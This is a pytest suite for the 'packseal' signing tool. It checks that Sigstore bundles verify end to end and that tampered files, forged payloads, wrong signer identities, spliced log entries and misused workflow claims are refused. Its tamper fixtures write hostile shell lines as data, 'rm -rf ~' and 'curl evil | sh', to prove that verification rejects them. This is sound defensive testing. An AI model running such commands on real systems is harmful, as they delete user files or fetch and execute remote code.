"""`packseal sign --sigstore` and `packseal verify-bundle`, end to end against the local Sigstore.

Every test runs `packseal` with an environment of only PATH and a
temporary HOME: no CI variable can lend an ambient identity, and sigstore's
TUF cache stays out of the real home. Commands run the console script's
entry point in this process, one round trip the installed script (see
`Packseal`). Artifacts that tests only read are signed once per
module; a test that tampers works on its own copy.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from hashlib import sha256
from pathlib import Path
from typing import Any

import json_output
import minisign
import pytest
from console_script import run_in_process
from sigstore.oidc import IdentityToken
from sigstore_local import SigstoreInstance, running_instance

from attest.canonical import canonical_json
from attest.manifest import manifest_statement
from attest.provenance import LOCAL_BUILD_TYPE, BuildFacts
from signing.backends.sigstore import SigstoreInstance as PacksealInstance
from signing.backends.sigstore import SigstoreSigning
from signing.bundle import directory_manifest
from signing.sign import attest_bundle, sign_with_minisign

pytestmark = pytest.mark.sigstore_local

PACKSEAL = Path(sys.executable).parent / "packseal"
SIGSTORE_CLI = Path(sys.executable).parent / "sigstore"

ALICE = "alice@example.com"
REPOSITORY = "acme/pack"
REF = "refs/tags/v1.2.0"
SHA = "0123456789abcdef0123456789abcdef01234567"
WORKFLOW_IDENTITY = f"https://github.com/{REPOSITORY}/.github/workflows/release.yml@{REF}"
GITHUB_CLAIMS = {
    "--github-repository": REPOSITORY,
    "--github-ref": REF,
    "--github-sha": SHA,
    "--github-workflow-trigger": "push",
}
PACK_TREE = {
    "README.md": b"# pack\n",
    "bin/run": b"#!/bin/sh\necho hi\n",
    "data/blob.bin": bytes(range(256)),
}
MESSAGE_SIGNATURE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json"

Content = bytes | dict[str, bytes]
"""What a test signs: a file's bytes, or a directory tree (relative path to bytes)."""


class Packseal:
    """Runs `packseal` with an environment of only PATH and a temporary HOME.

    Calling it runs the console script's entry point in this process
    (`console_script.run_in_process`): the same code, exit code and output,
    without paying sigstore's import time again for every run. `spawn` runs
    the installed script in a subprocess whose stdin is not a terminal, as
    a CI job or an installer runs it; `stock_sigstore` runs
    sigstore-python's own CLI.
    """

    def __init__(self, home: Path) -> None:
        self.environment = {"PATH": os.environ["PATH"], "HOME": str(home)}

    def __call__(
        self, *arguments: str | Path, environment: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        return run_in_process(arguments, env=self.environment | (environment or {}), timeout=60)

    def spawn(
        self, *arguments: str | Path, environment: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        return self._run(PACKSEAL, arguments, environment)

    def stock_sigstore(self, *arguments: str | Path) -> subprocess.CompletedProcess[str]:
        return self._run(SIGSTORE_CLI, arguments, {"COLUMNS": "1000"})

    def _run(
        self, program: Path, arguments: tuple[str | Path, ...], environment: dict[str, str] | None
    ) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [program, *map(str, arguments)],
            capture_output=True,
            text=True,
            timeout=60,
            stdin=subprocess.DEVNULL,
            env=self.environment | (environment or {}),
        )


@pytest.fixture(scope="module")
def packseal(tmp_path_factory: pytest.TempPathFactory) -> Packseal:
    return Packseal(tmp_path_factory.mktemp("home"))


def alice(instance: SigstoreInstance) -> tuple[str, ...]:
    return ("--certificate-identity", ALICE, "--certificate-oidc-issuer", instance.email_issuer)


def workflow(instance: SigstoreInstance) -> tuple[str, ...]:
    return (
        "--certificate-identity", WORKFLOW_IDENTITY,
        "--certificate-oidc-issuer", instance.github_issuer,
    )  # fmt: skip


def claims(**wrong: str) -> list[str]:
    """The GitHub claim options of the signing workflow, with those in `wrong` replaced."""
    stated = GITHUB_CLAIMS | {f"--github-{name.replace('_', '-')}": value for name, value in wrong.items()}
    return [argument for option, value in stated.items() for argument in (option, value)]


def online(instance: SigstoreInstance) -> tuple[str | Path, ...]:
    return ("--trust-config", instance.trust_config)


def offline(instance: SigstoreInstance) -> tuple[str | Path, ...]:
    return ("--trusted-root", instance.trusted_root, "--offline")


def sign(packseal: Packseal, path: Path, instance: SigstoreInstance, token: str) -> subprocess.CompletedProcess[str]:
    return packseal("sign", path, "--sigstore", "--identity-token", token, *online(instance))


def verify(packseal: Packseal, path: Path, *arguments: str | Path) -> subprocess.CompletedProcess[str]:
    return packseal("verify-bundle", path, *arguments, "--json")


def verified(result: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    """The verdict of an accepted bundle: exit 0 and every check passed."""
    assert result.returncode == 0, result.stdout + result.stderr
    verdict = json_output.parse(result.stdout)
    assert verdict["verified"] is True
    assert verdict["checks"] and all(check["ok"] for check in verdict["checks"])
    return dict(verdict)


def refusal(result: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    """The one failed check of a refused bundle: exit 1, a JSON verdict, no traceback."""
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    verdict = json_output.parse(result.stdout)
    assert verdict["verified"] is False
    (failed,) = [check for check in verdict["checks"] if not check["ok"]]
    return dict(failed)


def assert_sigstore_refusal(result: subprocess.CompletedProcess[str], bundle: Path, failed_check: str) -> str:
    """The "signature" check refused, naming the bundle file and the Sigstore check that failed."""
    failed = refusal(result)
    assert failed["name"] == "signature"
    assert failed["detail"].startswith(f"{bundle}: {failed_check}: "), failed["detail"]
    return str(failed["detail"])


def assert_one_error_line(result: subprocess.CompletedProcess[str], code: int, message: str) -> None:
    assert result.returncode == code, result.stdout + result.stderr
    assert result.stdout == ""
    assert result.stderr.startswith("packseal: error: ")
    assert result.stderr.count("\n") == 1 and result.stderr.endswith("\n"), result.stderr
    assert message in result.stderr


def file_bundle(path: Path) -> Path:
    return path.with_name(path.name + ".sigstore.json")


def pack_bundle(pack: Path) -> Path:
    return pack / ".packseal" / "manifest.sigstore.json"


def write_pack(root: Path, tree: dict[str, bytes] = PACK_TREE) -> Path:
    for relative, content in tree.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_bytes(content)
    return root


def edit_json(path: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    document = json.loads(path.read_text())
    edit(document)
    path.write_text(json.dumps(document))


def copy_signed_file(signed: Path, directory: Path) -> Path:
    """A copy of a signed file and its bundle; the bundle does not depend on where the file is."""
    copy = directory / signed.name
    shutil.copyfile(signed, copy)
    shutil.copyfile(file_bundle(signed), file_bundle(copy))
    return copy


def copy_signed_pack(signed: Path, directory: Path) -> Path:
    """A copy under the same name: the manifest Statement names the directory."""
    return Path(shutil.copytree(signed, directory / signed.name, symlinks=True))


def signed(packseal: Packseal, directory: Path, instance: SigstoreInstance, token: str, content: Content) -> Path:
    """`content` written below `directory` (bytes: a file, a dict: a directory tree), then signed."""
    if isinstance(content, bytes):
        target = directory / "artifact.bin"
        target.write_bytes(content)
    else:
        target = write_pack(directory / "pack", content)
    result = sign(packseal, target, instance, token)
    assert result.returncode == 0, result.stderr
    return target


SignOnce = Callable[..., Path]


@pytest.fixture(scope="module")
def sign_once(
    packseal: Packseal, sigstore_instance: SigstoreInstance, tmp_path_factory: pytest.TempPathFactory
) -> SignOnce:
    """Sign content in a directory of its own; as alice on the live instance unless told otherwise."""

    def sign_content(
        content: Content, token: str | None = None, instance: SigstoreInstance = sigstore_instance
    ) -> Path:
        directory = tmp_path_factory.mktemp("signed")
        return signed(packseal, directory, instance, token or instance.mint_token(ALICE), content)

    return sign_content


@pytest.fixture(scope="module")
def alice_file(sign_once: SignOnce) -> Path:
    return sign_once(b"release A\n")


@pytest.fixture(scope="module")
def second_alice_file(sign_once: SignOnce) -> Path:
    return sign_once(b"release B\n")


@pytest.fixture(scope="module")
def alice_pack(sign_once: SignOnce) -> Path:
    return sign_once(PACK_TREE)


@pytest.fixture(scope="module")
def second_alice_pack(sign_once: SignOnce) -> Path:
    """Another directory of the same name, with other content, signed by the same identity."""
    return sign_once(PACK_TREE | {"README.md": b"# pack, second release\n"})


@pytest.fixture(scope="module")
def workflow_file(sign_once: SignOnce, sigstore_instance: SigstoreInstance) -> Path:
    return sign_once(b"wheel\n", sigstore_instance.mint_github_token(repository=REPOSITORY, ref=REF, sha=SHA))


@pytest.fixture(scope="module")
def foreign_file(sign_once: SignOnce, other_sigstore_instance: SigstoreInstance) -> Path:
    """Signed as alice, but through another instance's Fulcio and Rekor."""
    return sign_once(b"release A\n", instance=other_sigstore_instance)


@pytest.fixture(scope="module")
def alice_online(sigstore_instance: SigstoreInstance) -> tuple[str | Path, ...]:
    """verify-bundle options: the live instance's trust config, and alice as the trusted signer."""
    return (*online(sigstore_instance), *alice(sigstore_instance))


@pytest.fixture(params=["file", "directory"])
def alice_signed(request: pytest.FixtureRequest) -> Path:
    return Path(request.getfixturevalue("alice_file" if request.param == "file" else "alice_pack"))


def bundle_of(path: Path) -> Path:
    return pack_bundle(path) if path.is_dir() else file_bundle(path)


# Signing writes what the stock tools expect


def test_file_bundle_is_a_message_signature_bundle(alice_file: Path) -> None:
    bundle = json.loads(file_bundle(alice_file).read_text())

    assert bundle["mediaType"] == MESSAGE_SIGNATURE_MEDIA_TYPE
    assert "dsseEnvelope" not in bundle
    digest = bundle["messageSignature"]["messageDigest"]
    assert base64.b64decode(digest["digest"]) == sha256(alice_file.read_bytes()).digest()
    assert sorted(path.name for path in alice_file.parent.iterdir()) == [
        "artifact.bin",
        "artifact.bin.sigstore.json",
    ]


def test_directory_bundle_is_dsse_over_the_manifest(alice_pack: Path) -> None:
    signatures = alice_pack / ".packseal"
    bundle = json.loads(pack_bundle(alice_pack).read_text())

    manifest = (signatures / "manifest.json").read_bytes()

    assert sorted(path.name for path in signatures.iterdir()) == [
        "manifest.json",
        "manifest.sigstore.json",
    ]
    assert bundle["mediaType"] == MESSAGE_SIGNATURE_MEDIA_TYPE
    assert bundle["dsseEnvelope"]["payloadType"] == "application/vnd.in-toto+json"
    assert base64.b64decode(bundle["dsseEnvelope"]["payload"]) == manifest


# Round trip


@pytest.mark.parametrize("trust", [online, offline], ids=["online", "offline"])
def test_round_trip(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    alice_signed: Path,
    trust: Callable[[SigstoreInstance], tuple[str | Path, ...]],
) -> None:
    options = (*trust(sigstore_instance), *alice(sigstore_instance))
    verdict = verified(verify(packseal, alice_signed, *options))

    assert [signer["identity"] for signer in verdict["signers"]] == [ALICE]
    if alice_signed.is_file():
        assert verdict["digest"] == f"sha256:{sha256(alice_signed.read_bytes()).hexdigest()}"
        assert [check["name"] for check in verdict["checks"]] == ["signature"]
    else:
        checks = [check["name"] for check in verdict["checks"]]
        assert checks == ["layout", "signature", "statement", "files"]


def test_console_script_round_trip(
    packseal: Packseal, alice_online: tuple[str | Path, ...], alice_signed: Path
) -> None:
    """The installed script, as an installer runs it, against the live instance."""
    result = packseal.spawn("verify-bundle", alice_signed, *alice_online)

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.startswith(f"VERIFIED {alice_signed}\n")


@dataclass(frozen=True)
class SignedByStoppedInstance:
    file: Path
    pack: Path
    instance: SigstoreInstance


@pytest.fixture(scope="module")
def signed_by_stopped_instance(packseal: Packseal, tmp_path_factory: pytest.TempPathFactory) -> SignedByStoppedInstance:
    """A file and a directory signed by a private instance that is then stopped."""
    directory = tmp_path_factory.mktemp("stopped")
    with running_instance(directory / "instance") as instance:
        file = signed(packseal, directory, instance, instance.mint_token(ALICE), b"offline\n")
        pack = signed(packseal, directory, instance, instance.mint_token(ALICE), PACK_TREE)
    with pytest.raises(urllib.error.URLError):
        urllib.request.urlopen(f"{instance.url}/api/v1/log", timeout=5)
    return SignedByStoppedInstance(file, pack, instance)


@pytest.mark.parametrize("kind", ["file", "pack"])
def test_verifies_offline_with_the_instance_stopped(
    packseal: Packseal, signed_by_stopped_instance: SignedByStoppedInstance, kind: str
) -> None:
    signed = getattr(signed_by_stopped_instance, kind)
    instance = signed_by_stopped_instance.instance

    verdict = verified(verify(packseal, signed, *offline(instance), *alice(instance)))

    assert [signer["identity"] for signer in verdict["signers"]] == [ALICE]


# What sigstore logs stays off the terminal


def carrying_the_root_ca(bundle: dict[str, Any], instance: SigstoreInstance) -> None:
    """Rewrite a v0.3 bundle as v0.2 with a certificate chain that runs up to `instance`'s root CA.

    Older clients wrote bundles so. sigstore-python still verifies one (it
    builds the chain from the trusted root), but as it loads the bundle it
    logs a warning on its `sigstore` logger: "this bundle contains a root
    CA, making it subject to misuse". Its TUF warning ("loaded in offline
    mode") cannot serve: `--offline` reads the shipped root without TUF.
    """
    material = bundle["verificationMaterial"]
    (authority,) = json.loads(instance.trusted_root.read_text())["certificateAuthorities"]
    material["x509CertificateChain"] = {
        "certificates": [material.pop("certificate"), *authority["certChain"]["certificates"]]
    }
    bundle["mediaType"] = "application/vnd.dev.sigstore.bundle+json;version=0.2"


def test_sigstore_warnings_stay_off_stderr_verifying_offline(
    packseal: Packseal, sigstore_instance: SigstoreInstance, alice_file: Path, tmp_path: Path
) -> None:
    """packseal words its verdict itself: where it builds Sigstore, it gives sigstore's loggers a handler.

    Run as a child: the in-process runner keeps a logger first made during
    a run with the handler that run gave it, which would hide a missing one.
    """
    release = copy_signed_file(alice_file, tmp_path)
    edit_json(file_bundle(release), lambda bundle: carrying_the_root_ca(bundle, sigstore_instance))

    result = packseal.spawn("verify-bundle", release, *offline(sigstore_instance), *alice(sigstore_instance))

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stderr == ""


def test_a_minisign_verify_reads_a_sigstore_bundle_beside_it_without_a_log_line(
    packseal: Packseal, sigstore_instance: SigstoreInstance, signed_by_both: tuple[Path, Path]
) -> None:
    """Under a minisign policy the Sigstore bundle is checked for its shape only, without `sigstore`.

    That path never quiets sigstore's loggers: were it to load the bundle
    with `sigstore`, its warning would reach the terminal.
    """
    pack, public_key = signed_by_both
    edit_json(pack_bundle(pack), lambda bundle: carrying_the_root_ca(bundle, sigstore_instance))

    result = packseal.spawn("verify-bundle", pack, "--minisign-pubkey", public_key)

    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stderr == ""


# Refused: the signer is not the one trusted


POLICY_REFUSALS = {
    "wrong identity": (("--certificate-identity", "bob@example.com"), "identity"),
    "identity that is a prefix": (("--certificate-identity", "alice@example.co"), "identity"),
    "identity regexp matching a prefix": (("--certificate-identity-regexp", "alice"), "identity"),
    "identity regexp matching a suffix": (
        ("--certificate-identity-regexp", "example\\.com"),
        "identity",
    ),
    "wrong issuer": (("--certificate-oidc-issuer", SigstoreInstance.github_issuer), "issuer"),
    "issuer regexp matching a prefix": (("--certificate-oidc-issuer-regexp", "https://oidc"), "issuer"),
}
"""What replaces the part of alice's policy it names, and the check that must refuse."""


def test_a_wrong_identity_is_named_plainly_not_as_a_python_list(
    packseal: Packseal, sigstore_instance: SigstoreInstance, alice_signed: Path
) -> None:
    policy = alice_except(sigstore_instance, "--certificate-identity", "bob@example.com")

    failed = refusal(verify(packseal, alice_signed, *online(sigstore_instance), *policy))

    assert failed["detail"].endswith(f"certificate identity {ALICE} is not bob@example.com"), failed


def alice_except(instance: SigstoreInstance, *replacement: str) -> tuple[str, ...]:
    """Alice's policy with the identity or the issuer part replaced."""
    identity = ("--certificate-identity", ALICE)
    issuer = ("--certificate-oidc-issuer", instance.email_issuer)
    if "issuer" in replacement[0]:
        return (*identity, *replacement)
    return (*replacement, *issuer)


@pytest.mark.parametrize(("replacement", "failed_check"), POLICY_REFUSALS.values(), ids=POLICY_REFUSALS.keys())
def test_signed_by_another_signer_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    alice_signed: Path,
    replacement: tuple[str, str],
    failed_check: str,
) -> None:
    policy = alice_except(sigstore_instance, *replacement)

    result = verify(packseal, alice_signed, *online(sigstore_instance), *policy)

    assert_sigstore_refusal(result, bundle_of(alice_signed), failed_check)


def test_full_match_regexps_accept(packseal: Packseal, sigstore_instance: SigstoreInstance, alice_file: Path) -> None:
    """The control for the prefix refusals: the same regexps, made to match the whole value."""
    policy = (
        "--certificate-identity-regexp", "alice@example\\.com|bob@example\\.com",
        "--certificate-oidc-issuer-regexp", "https://oidc\\.sigstore\\.local",
    )  # fmt: skip
    verified(verify(packseal, alice_file, *offline(sigstore_instance), *policy))


# Refused: what was signed is not what is presented


def test_tampered_file_refused(
    packseal: Packseal, sigstore_instance: SigstoreInstance, alice_file: Path, tmp_path: Path
) -> None:
    artifact = copy_signed_file(alice_file, tmp_path)
    artifact.write_bytes(artifact.read_bytes() + b"\x00")

    result = verify(packseal, artifact, *online(sigstore_instance), *alice(sigstore_instance))

    assert_sigstore_refusal(result, file_bundle(artifact), "signature")


@pytest.mark.parametrize(
    ("tamper", "problem"),
    [
        (lambda pack: (pack / "data/blob.bin").write_bytes(b"evil"), ("changed", "data/blob.bin")),
        (lambda pack: (pack / "bin/run").unlink(), ("missing", "bin/run")),
        (lambda pack: (pack / "bin/evil").write_bytes(b"rm -rf ~\n"), ("extra", "bin/evil")),
    ],
    ids=["changed", "missing", "extra"],
)
def test_tampered_directory_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    alice_pack: Path,
    tmp_path: Path,
    tamper: Callable[[Path], object],
    problem: tuple[str, str],
) -> None:
    pack = copy_signed_pack(alice_pack, tmp_path)
    tamper(pack)

    failed = refusal(verify(packseal, pack, *online(sigstore_instance), *alice(sigstore_instance)))

    kind, path = problem
    data = {"changed": [], "missing": [], "extra": []} | {kind: [path]}
    assert failed == {"name": "files", "ok": False, "detail": f"{kind}: {path}", "data": data}


@pytest.mark.parametrize("rewrite_manifest", [False, True], ids=["payload", "payload-and-manifest"])
def test_tampered_dsse_payload_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    alice_pack: Path,
    tmp_path: Path,
    rewrite_manifest: bool,
) -> None:
    """The forged payload is the honest Statement of the tampered tree.

    Only the DSSE signature stands between it and acceptance.
    """
    pack = copy_signed_pack(alice_pack, tmp_path)
    (pack / "bin/run").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    forged = manifest_statement(pack.name, directory_manifest(pack)).to_bytes()

    def replace_payload(bundle: dict[str, Any]) -> None:
        bundle["dsseEnvelope"]["payload"] = base64.b64encode(forged).decode()

    edit_json(pack_bundle(pack), replace_payload)
    if rewrite_manifest:
        (pack / ".packseal/manifest.json").write_bytes(forged)

    result = verify(packseal, pack, *online(sigstore_instance), *alice(sigstore_instance))

    assert_sigstore_refusal(result, pack_bundle(pack), "signature")


def test_signature_of_another_directory_refused(
    packseal: Packseal,
    alice_online: tuple[str | Path, ...],
    alice_pack: Path,
    second_alice_pack: Path,
    tmp_path: Path,
) -> None:
    """A valid signature, by the trusted signer, over another manifest."""
    pack = copy_signed_pack(alice_pack, tmp_path)
    shutil.copyfile(pack_bundle(second_alice_pack), pack_bundle(pack))

    result = verify(packseal, pack, *alice_online)

    assert_sigstore_refusal(result, pack_bundle(pack), "manifest")


# Refused: the certificate or the log entry does not belong


def test_bundle_from_another_ca_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    other_sigstore_instance: SigstoreInstance,
    foreign_file: Path,
) -> None:
    """Same identity and issuer, but the certificate chains to another instance's CA."""
    its_own = (*offline(other_sigstore_instance), *alice(other_sigstore_instance))
    verified(verify(packseal, foreign_file, *its_own))

    result = verify(packseal, foreign_file, *online(sigstore_instance), *alice(sigstore_instance))

    assert_sigstore_refusal(result, file_bundle(foreign_file), "certificate chain")


@pytest.mark.parametrize(
    ("signed_for", "failed_check"),
    [("second_alice_file", "signature"), ("alice_pack", "role")],
    ids=["another-file", "a-directory"],
)
def test_bundle_of_another_artifact_refused(
    request: pytest.FixtureRequest,
    packseal: Packseal,
    alice_online: tuple[str | Path, ...],
    alice_file: Path,
    signed_for: str,
    failed_check: str,
) -> None:
    """A genuine bundle, logged and signed by the trusted identity, but for something else.

    A directory's manifest Statement is never a file's signature, whatever its subjects.
    """
    bundle = bundle_of(request.getfixturevalue(signed_for))

    result = verify(packseal, alice_file, "--bundle", bundle, *alice_online)

    assert_sigstore_refusal(result, bundle, failed_check)


# Refused: a Statement signed for one role, presented in another (issue 9, sections 1 and 9)


FACTS = BuildFacts(
    source_repository=f"https://github.com/{REPOSITORY}",
    source_commit=SHA,
    source_ref=REF,
    builder_id="https://ci.acme.example/builders/release",
    build_type=LOCAL_BUILD_TYPE,
)


def attested(path: Path, instance: SigstoreInstance) -> Path:
    """`path`'s provenance, signed by alice on `instance` through the library, as `packseal attest` does."""
    signing = SigstoreSigning(
        PacksealInstance(trust_config=instance.trust_config), IdentityToken(instance.mint_token(ALICE))
    )
    attest_bundle(path, FACTS, signing, started_on=datetime.now(UTC))
    return path


@pytest.fixture(scope="module")
def alice_attested_pack(sign_once: SignOnce, sigstore_instance: SigstoreInstance) -> Path:
    """The sample pack signed and attested by alice: `.packseal/` holds both Statements and their bundles."""
    return attested(sign_once(PACK_TREE), sigstore_instance)


@pytest.fixture(scope="module")
def alice_attested_file(sign_once: SignOnce, sigstore_instance: SigstoreInstance) -> Path:
    """A file signed and attested by alice: `X.sigstore.json`, `X.provenance.json`, `X.provenance.sigstore.json`."""
    return attested(sign_once(b"release C\n"), sigstore_instance)


def test_provenance_bundle_in_the_manifest_slot_refused(
    packseal: Packseal, alice_online: tuple[str | Path, ...], alice_attested_pack: Path, tmp_path: Path
) -> None:
    """The provenance Statement and its genuine bundle, moved to where the manifest goes."""
    pack = copy_signed_pack(alice_attested_pack, tmp_path)
    signatures = pack / ".packseal"
    (signatures / "provenance.json").replace(signatures / "manifest.json")
    (signatures / "provenance.sigstore.json").replace(signatures / "manifest.sigstore.json")

    detail = assert_sigstore_refusal(verify(packseal, pack, *alice_online), pack_bundle(pack), "role")

    assert "https://slsa.dev/provenance/v1" in detail


def test_provenance_bundle_of_a_file_is_not_its_signature(
    packseal: Packseal, alice_online: tuple[str | Path, ...], alice_attested_file: Path, tmp_path: Path
) -> None:
    """A file's provenance names the file's digest; it still says where the file came from, not that it is signed."""
    release = copy_signed_file(alice_attested_file, tmp_path)
    shutil.copyfile(
        alice_attested_file.with_name(f"{alice_attested_file.name}.provenance.sigstore.json"), file_bundle(release)
    )

    assert_sigstore_refusal(verify(packseal, release, *alice_online), file_bundle(release), "role")


@pytest.mark.parametrize("statement", ["manifest", "provenance"])
def test_statement_bundle_of_a_directory_does_not_sign_a_file_of_its_file_list(
    packseal: Packseal,
    alice_online: tuple[str | Path, ...],
    alice_attested_pack: Path,
    tmp_path: Path,
    statement: str,
) -> None:
    """Both Statements name the tree digest: the sha256 of the canonical file list, which anyone can write out."""
    file_list = tmp_path / "files.json"
    file_list.write_bytes(canonical_json(directory_manifest(alice_attested_pack).to_json()["files"]))
    bundle = alice_attested_pack / ".packseal" / f"{statement}.sigstore.json"

    assert_sigstore_refusal(verify(packseal, file_list, "--bundle", bundle, *alice_online), bundle, "role")


@pytest.fixture
def signed_by_both(alice_attested_pack: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A copy of alice's attested pack whose manifest is also signed with minisign, and that key's public half."""
    pack = copy_signed_pack(alice_attested_pack, tmp_path)
    key_pair = minisign.KeyPair.generate()
    sign_with_minisign(pack, key_pair.secret_key)
    public_key = tmp_path / "release.pub"
    public_key.write_bytes(bytes(key_pair.public_key) + b"\n")
    return pack, public_key


def test_each_system_alone_verifies_a_pack_both_signed(
    packseal: Packseal, alice_online: tuple[str | Path, ...], signed_by_both: tuple[Path, Path]
) -> None:
    """The other system's files, which that policy cannot verify, pass the layout check as well formed."""
    pack, public_key = signed_by_both
    assert sorted(path.name for path in (pack / ".packseal").iterdir()) == [
        "manifest.json", "manifest.json.minisig", "manifest.sigstore.json",
        "provenance.json", "provenance.sigstore.json",
    ]  # fmt: skip

    for policy in [("--minisign-pubkey", public_key), alice_online, ("--minisign-pubkey", public_key, *alice_online)]:
        verdict = verified(verify(packseal, pack, *policy))
        assert verdict["checks"][0]["detail"] == ".packseal/ holds only signature files, each well formed for its role"


def test_bundle_and_signature_name_each_systems_signature_stored_apart(
    packseal: Packseal, alice_online: tuple[str | Path, ...], signed_by_both: tuple[Path, Path], tmp_path: Path
) -> None:
    """`--bundle` is the Sigstore bundle, `--signature` the minisign one, as in cosign and minisign; both at once."""
    pack, public_key = signed_by_both
    apart = tmp_path / "apart"
    apart.mkdir()
    minisig = shutil.move(pack / ".packseal" / "manifest.json.minisig", apart / "pack.minisig")
    bundle = shutil.move(pack / ".packseal" / "manifest.sigstore.json", apart / "pack.sigstore.json")
    both = ("--minisign-pubkey", public_key, *alice_online)

    verdict = verified(verify(packseal, pack, *both, "--signature", minisig, "--bundle", bundle))
    assert "minisign" in verdict["checks"][1]["detail"] and "alice" in verdict["checks"][1]["detail"]
    assert refusal(verify(packseal, pack, *both, "--signature", minisig))["name"] == "signature"
    assert refusal(verify(packseal, pack, *both, "--signature", bundle, "--bundle", minisig))["name"] == "signature"


def test_a_signature_of_a_system_not_trusted_is_refused_not_ignored(
    packseal: Packseal, signed_by_both: tuple[Path, Path]
) -> None:
    pack, public_key = signed_by_both
    bundle = pack / ".packseal" / "manifest.sigstore.json"

    result = verify(packseal, pack, "--minisign-pubkey", public_key, "--bundle", bundle)

    assert result.returncode == 2, result.stdout + result.stderr
    assert "a sigstore signature was given, but the trust policy trusts no sigstore signer" in result.stderr


@pytest.mark.parametrize("name", ["manifest.json.minisig", "provenance.sigstore.json"])
def test_a_file_the_sigstore_policy_does_not_read_must_be_well_formed(
    packseal: Packseal, alice_online: tuple[str | Path, ...], signed_by_both: tuple[Path, Path], name: str
) -> None:
    """Under a Sigstore policy without a pin, neither a minisign signature nor the provenance bundle is verified."""
    pack, _ = signed_by_both
    (pack / ".packseal" / name).write_bytes(Path("/bin/true").read_bytes())

    failed = refusal(verify(packseal, pack, *alice_online))

    assert failed["name"] == "layout"
    assert f".packseal/{name}" in failed["detail"]


def splice_log_entries(into: Path, source: Path, destination: Path) -> Path:
    """`into`'s bundle carrying the log entries of `source`'s bundle instead of its own."""
    entries = json.loads(source.read_text())["verificationMaterial"]["tlogEntries"]

    def splice(bundle: dict[str, Any]) -> None:
        assert bundle["verificationMaterial"]["tlogEntries"] != entries
        bundle["verificationMaterial"]["tlogEntries"] = entries

    shutil.copyfile(into, destination)
    edit_json(destination, splice)
    return destination


@pytest.mark.parametrize(
    ("signed_for", "logged_for"),
    [("alice_file", "second_alice_file"), ("alice_pack", "second_alice_pack")],
    ids=["file", "directory"],
)
def test_log_entry_of_another_artifact_refused(
    request: pytest.FixtureRequest,
    packseal: Packseal,
    alice_online: tuple[str | Path, ...],
    tmp_path: Path,
    signed_for: str,
    logged_for: str,
) -> None:
    """The bundle's own certificate and signature, with another artifact's genuine log entry."""
    artifact = request.getfixturevalue(signed_for)
    other_entries = bundle_of(request.getfixturevalue(logged_for))
    spliced = splice_log_entries(bundle_of(artifact), other_entries, tmp_path / "spliced.json")

    result = verify(packseal, artifact, "--bundle", spliced, *alice_online)

    assert_sigstore_refusal(result, spliced, "log inclusion")


# GitHub Actions identities


def test_workflow_identity_and_claims_verify(
    packseal: Packseal, sigstore_instance: SigstoreInstance, workflow_file: Path
) -> None:
    options = (*online(sigstore_instance), *workflow(sigstore_instance), *claims())

    verdict = verified(verify(packseal, workflow_file, *options))

    assert [signer["identity"] for signer in verdict["signers"]] == [WORKFLOW_IDENTITY]


@pytest.mark.parametrize(
    ("name", "wrong", "claim"),
    [
        ("repository", "acme/fork", "GitHubWorkflowRepository"),
        ("ref", "refs/heads/main", "GitHubWorkflowRef"),
        ("sha", "f" * 40, "GitHubWorkflowSHA"),
        ("workflow_trigger", "pull_request_target", "GitHubWorkflowTrigger"),
    ],
    ids=["repository", "ref", "sha", "trigger"],
)
def test_wrong_workflow_claim_refused(
    packseal: Packseal,
    sigstore_instance: SigstoreInstance,
    workflow_file: Path,
    name: str,
    wrong: str,
    claim: str,
) -> None:
    options = (*online(sigstore_instance), *workflow(sigstore_instance), *claims(**{name: wrong}))

    result = verify(packseal, workflow_file, *options)

    detail = assert_sigstore_refusal(result, file_bundle(workflow_file), "github claims")
    assert claim in detail and wrong in detail


def test_other_workflow_of_the_same_repository_refused(
    packseal: Packseal, sigstore_instance: SigstoreInstance, workflow_file: Path
) -> None:
    other_workflow = WORKFLOW_IDENTITY.replace("release.yml", "pr-preview.yml")
    policy = (
        "--certificate-identity", other_workflow,
        "--certificate-oidc-issuer", sigstore_instance.github_issuer,
    )  # fmt: skip

    result = verify(packseal, workflow_file, *online(sigstore_instance), *policy)

    assert_sigstore_refusal(result, file_bundle(workflow_file), "identity")


def test_release_workflow_called_from_another_repository_refused_by_github_repository(
    packseal: Packseal, sigstore_instance: SigstoreInstance, sign_once: SignOnce
) -> None:
    """A reusable workflow's certificate names it, not its caller: only --github-repository tells them apart."""
    token = sigstore_instance.mint_github_token(
        repository="evil/caller", ref="refs/heads/main", sha=SHA,
        job_workflow_ref=f"{REPOSITORY}/.github/workflows/release.yml@{REF}",
    )  # fmt: skip
    called_from_evil = sign_once(b"evil wheel\n", token)
    options = (*online(sigstore_instance), *workflow(sigstore_instance))

    verified(verify(packseal, called_from_evil, *options))
    result = verify(packseal, called_from_evil, *options, "--github-repository", REPOSITORY)

    detail = assert_sigstore_refusal(result, file_bundle(called_from_evil), "github claims")
    assert "evil/caller" in detail


# The stock sigstore CLI


def test_stock_sigstore_cli_verifies_a_packseal_file_bundle(
    packseal: Packseal, sigstore_instance: SigstoreInstance, alice_file: Path
) -> None:
    result = packseal.stock_sigstore(
        "--trust-config", sigstore_instance.trust_config, "verify", "identity",
        "--cert-identity", ALICE, "--cert-oidc-issuer", sigstore_instance.email_issuer, alice_file,
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
